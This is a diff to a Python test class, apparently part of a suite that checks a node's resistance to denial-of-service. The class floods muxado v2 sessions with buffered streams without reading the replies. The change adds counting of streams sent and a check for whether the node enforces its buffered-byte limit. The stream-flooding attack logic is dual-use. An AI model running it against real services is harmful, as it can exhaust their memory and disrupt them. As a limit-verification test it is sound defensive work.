@@ -1133,8 +1133,8 @@ class MuxadoBufferedStreams(Attack):
     """
 
     unit = "streams"
-    what = "window x maxIncomingStreams per session; sessions unbounded"
-    limited = False
+    what = "maxBufferedBytes per session (the node's 8 MiB), maxSessions"
+    limited = True
 
     def __init__(self, host, port, size, sessions=1, window=0x40000):
         Attack.__init__(self, host, port, size)
@@ -1142,6 +1142,7 @@ class MuxadoBufferedStreams(Attack):
         self.window = window
         self.name = "buffered streams, muxado v2 (%d session%s)" % (
             sessions, "s" if sessions > 1 else "")
+        self.streamsSent = []
 
     def start(self):
         request = b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n"
@@ -1150,16 +1151,30 @@ class MuxadoBufferedStreams(Attack):
             s = self.connect()
             if s is None:
                 continue
-            s.settimeout(60)
+            s.settimeout(5)
+            sent = 0
             for i in range(self.size):
                 streamId = 2 * i + 3
                 frames = [_v2Syn(streamId, payload[:16384])]
                 for pos in range(16384, len(payload), 16384):
                     frames.append(_v2Data(streamId, payload[pos:pos + 16384]))
-                with contextlib.suppress(OSError):
+                try:
                     s.sendall(b"".join(frames))
+                except OSError:
+                    # The node stopped reading this session (its buffered
+                    # limit): TCP holds the rest back.
+                    break
+                sent += 1
+            self.streamsSent.append(sent)
             s.setblocking(False)
 
     def outcome(self):
-        return "%d sessions x %d streams x %d KiB sent, answers never read" % (
-            self.sessions, self.size, self.window // 1024)
+        return ("%d sessions x %d streams x %d KiB tried, answers never read; streams sent "
+                "before the node stopped reading: %s" % (
+                    self.sessions, self.size, self.window // 1024,
+                    ", ".join(str(n) for n in self.streamsSent)))
+
+    def expected(self):
+        if self.streamsSent and all(n == self.size for n in self.streamsSent):
+            return "the node read every stream of every session (no buffered limit)"
+        return None
